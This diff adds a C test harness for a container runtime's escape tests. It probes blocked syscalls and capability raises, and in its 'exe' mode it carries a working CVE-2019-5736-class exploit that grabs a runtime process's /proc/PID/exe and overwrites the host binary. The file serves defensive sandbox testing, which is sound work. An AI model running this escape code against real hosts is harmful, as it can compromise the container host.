@@ -1,0 +1,170 @@
+/* Attacks run from inside a container by crates/runtime-cli/tests/escape.rs.
+ * Built with `gcc -static` at test time. Each subcommand prints one line per
+ * probe, "<probe> <errno>" (0 = the call succeeded), and the Rust test
+ * decides what must have failed. */
+#define _GNU_SOURCE
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <linux/capability.h>
+#include <sched.h>
+#include <signal.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/personality.h>
+#include <sys/prctl.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/wait.h>
+#include <time.h>
+#include <unistd.h>
+
+static void report(const char *probe, long rc) {
+    printf("%s %d\n", probe, rc < 0 ? errno : 0);
+    fflush(stdout);
+}
+
+/* A fork-like raw clone: the child exits at once. */
+static long raw_clone(unsigned long flags) {
+    long rc = syscall(SYS_clone, flags | SIGCHLD, 0, 0, 0, 0);
+    if (rc == 0) _exit(0);
+    if (rc > 0) waitpid(rc, NULL, 0);
+    return rc;
+}
+
+struct clone_args_min { uint64_t flags, pidfd, child_tid, parent_tid, exit_signal, stack, stack_size, tls; };
+
+static long raw_clone3(void) {
+    struct clone_args_min a = {0};
+    a.exit_signal = SIGCHLD;
+    long rc = syscall(SYS_clone3, &a, sizeof a);
+    if (rc == 0) _exit(0);
+    if (rc > 0) waitpid(rc, NULL, 0);
+    return rc;
+}
+
+/* Runs one probe in a child, so that a probe that succeeds (a new user
+ * namespace, a mount) leaves this process as it was; the errno comes back
+ * as the exit status. */
+static void in_child(const char *probe, long (*f)(void)) {
+    pid_t pid = fork();
+    if (pid == 0) {
+        long rc = f();
+        _exit(rc < 0 ? errno : 0);
+    }
+    int status = 0;
+    waitpid(pid, &status, 0);
+    printf("%s %d\n", probe, WIFEXITED(status) ? WEXITSTATUS(status) : 255);
+    fflush(stdout);
+}
+
+static long do_unshare_user(void) { return unshare(CLONE_NEWUSER); }
+static long do_mount(void) {
+    mkdir("/tmp/probe-mnt", 0700);
+    return syscall(SYS_mount, "none", "/tmp/probe-mnt", "tmpfs", 0, NULL);
+}
+
+/* Syscalls Docker's default profile blocks. */
+static int sys_probes(void) {
+    report("keyctl", syscall(SYS_keyctl, 0 /* GET_KEYRING_ID */, -3 /* session */, 0));
+    report("add_key", syscall(SYS_add_key, "user", "berth-probe", "x", 1, -2 /* process */));
+    report("request_key", syscall(SYS_request_key, "user", "berth-none", NULL, -2));
+    in_child("unshare_user", do_unshare_user);
+    report("clone_newuser", raw_clone(CLONE_NEWUSER));
+    report("clone3", raw_clone3());
+    report("personality_no_aslr", personality(ADDR_NO_RANDOMIZE));
+    report("io_uring_setup", syscall(SYS_io_uring_setup, 1, calloc(1, 120)));
+    report("bpf", syscall(SYS_bpf, 0 /* MAP_CREATE */, calloc(1, 128), 128));
+    report("perf_event_open", syscall(SYS_perf_event_open, calloc(1, 128), 0, -1, -1, 0));
+    report("kexec_load", syscall(SYS_kexec_load, 0, 0, NULL, 0));
+    in_child("mount", do_mount);
+    report("open_by_handle_at", syscall(SYS_open_by_handle_at, AT_FDCWD, calloc(1, 136), O_RDONLY));
+    /* What a normal workload needs. */
+    report("fork", raw_clone(0));
+    report("getpid", getpid());
+    return 0;
+}
+
+/* Capabilities: raise what the config did not grant. */
+static int cap_probes(void) {
+    struct __user_cap_header_struct h = {_LINUX_CAPABILITY_VERSION_3, 0};
+    struct __user_cap_data_struct d[2];
+    memset(d, 0, sizeof d);
+    report("capget", syscall(SYS_capget, &h, d));
+    printf("eff %08x%08x\n", d[1].effective, d[0].effective);
+    /* Every capability into inheritable: only allowed within bounding. */
+    d[0].inheritable = 0xffffffff;
+    d[1].inheritable = 0x000001ff;
+    report("capset_inheritable_all", syscall(SYS_capset, &h, d));
+    report("ambient_raise_sys_admin", prctl(PR_CAP_AMBIENT, PR_CAP_AMBIENT_RAISE, CAP_SYS_ADMIN, 0, 0));
+    report("bounding_has_sys_admin", prctl(PR_CAPBSET_READ, CAP_SYS_ADMIN, 0, 0, 0) == 1 ? 0 : (errno = EPERM, -1));
+    return 0;
+}
+
+static int is_digits(const char *s) {
+    for (; *s; s++) if (*s < '0' || *s > '9') return 0;
+    return 1;
+}
+
+/* CVE-2019-5736 class: while the runtime joins the container for `exec`,
+ * its process is briefly visible in the container's pid namespace before
+ * it executes the container's program. Grab /proc/PID/exe of every such
+ * process (anything not run from the container's own /bin), and once it
+ * is gone overwrite the file it pointed at. Prints how many processes were
+ * seen, how many refused the open, and the result of a successful grab. */
+static int exe_attack(const char *marker, int seconds) {
+    pid_t self = getpid();
+    time_t end = time(NULL) + seconds;
+    int denied = 0, grabbed = 0;
+    while (time(NULL) < end && !grabbed) {
+        DIR *d = opendir("/proc");
+        struct dirent *e;
+        while (d && (e = readdir(d))) {
+            if (!is_digits(e->d_name)) continue;
+            pid_t pid = atoi(e->d_name);
+            if (pid == self || pid == 1) continue;
+            char path[64], target[256] = {0};
+            snprintf(path, sizeof path, "/proc/%d/exe", pid);
+            int fd = open(path, O_RDONLY | O_CLOEXEC);
+            if (fd < 0) {
+                if (errno == EACCES || errno == EPERM) denied++;
+                continue;
+            }
+            if (readlink(path, target, sizeof target - 1) < 0 || strncmp(target, "/bin/", 5) == 0) {
+                close(fd);
+                continue;
+            }
+            grabbed = 1;
+            printf("exe_target %s\n", target);
+            kill(pid, SIGKILL);
+            char self_fd[64];
+            snprintf(self_fd, sizeof self_fd, "/proc/self/fd/%d", fd);
+            int w = -1;
+            for (int i = 0; i < 400; i++) {
+                w = open(self_fd, O_WRONLY | O_CLOEXEC);
+                if (w >= 0 || errno != ETXTBSY) break;
+                usleep(5000);
+            }
+            report("open_exe_for_write", w);
+            if (w >= 0) {
+                report("write_exe", write(w, marker, strlen(marker)));
+                close(w);
+            }
+            break;
+        }
+        if (d) closedir(d);
+    }
+    printf("denied %d\ngrabbed %d\ndone 1\n", denied, grabbed);
+    fflush(stdout);
+    return 0;
+}
+
+int main(int argc, char **argv) {
+    if (argc >= 2 && strcmp(argv[1], "sys") == 0) return sys_probes();
+    if (argc >= 2 && strcmp(argv[1], "caps") == 0) return cap_probes();
+    if (argc >= 4 && strcmp(argv[1], "exe") == 0) return exe_attack(argv[2], atoi(argv[3]));
+    fprintf(stderr, "usage: attack sys | caps | exe MARKER SECONDS\n");
+    return 2;
+}
